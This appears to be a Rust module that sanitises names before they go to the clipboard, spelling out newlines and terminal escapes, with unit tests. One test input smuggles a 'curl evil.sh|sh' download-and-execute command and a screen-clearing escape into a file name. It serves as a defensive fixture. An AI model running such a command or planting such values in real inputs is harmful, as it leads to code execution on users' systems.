//! Text on its way to the clipboard: from there it goes into shells and forms.
//!
//! A name that somebody else chose may hold a line break that runs a command as soon as
//! it is pasted. So a name goes through the sanitiser, and it is said what was written
//! out; only a document that was asked for as a whole is left as it is.

use serde::{Deserialize, Serialize};

use super::remote::{shown, written_out};

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Clip {
    text: String,
    /// The characters that are spelled out in it, each once, as it spells them.
    written_out: Vec<String>,
}

impl Clip {
    /// A name, a path, an id: one line.
    pub fn name(raw: &str) -> Self {
        Self {
            text: shown(raw).into_owned(),
            written_out: written_out(raw),
        }
    }

    /// A whole document to the byte, or lines that are on the screen as they are here.
    pub fn whole(text: impl Into<String>) -> Self {
        Self {
            text: text.into(),
            written_out: Vec::new(),
        }
    }

    pub fn text(&self) -> &str {
        &self.text
    }

    pub fn written_out(&self) -> &[String] {
        &self.written_out
    }
}

#[cfg(test)]
mod tests {
    use super::Clip;

    #[test]
    fn a_name_is_one_harmless_line_and_says_what_was_written_out() {
        let clip = Clip::name("iam/a\ncurl evil.sh|sh\n\u{1b}[2Jb.json");
        assert_eq!(
            clip.text(),
            "iam/a<U+000A>curl evil.sh|sh<U+000A><U+001B>[2Jb.json"
        );
        assert_eq!(clip.written_out(), ["<U+000A>", "<U+001B>"]);
        assert!(Clip::name("role/a b").written_out().is_empty());
    }

    #[test]
    fn a_document_is_left_as_it_is() {
        let document = "{\n\t\"a\": \"\u{200b}\"\n}";
        let clip = Clip::whole(document);
        assert_eq!(clip.text(), document);
        assert!(clip.written_out().is_empty());
    }
}
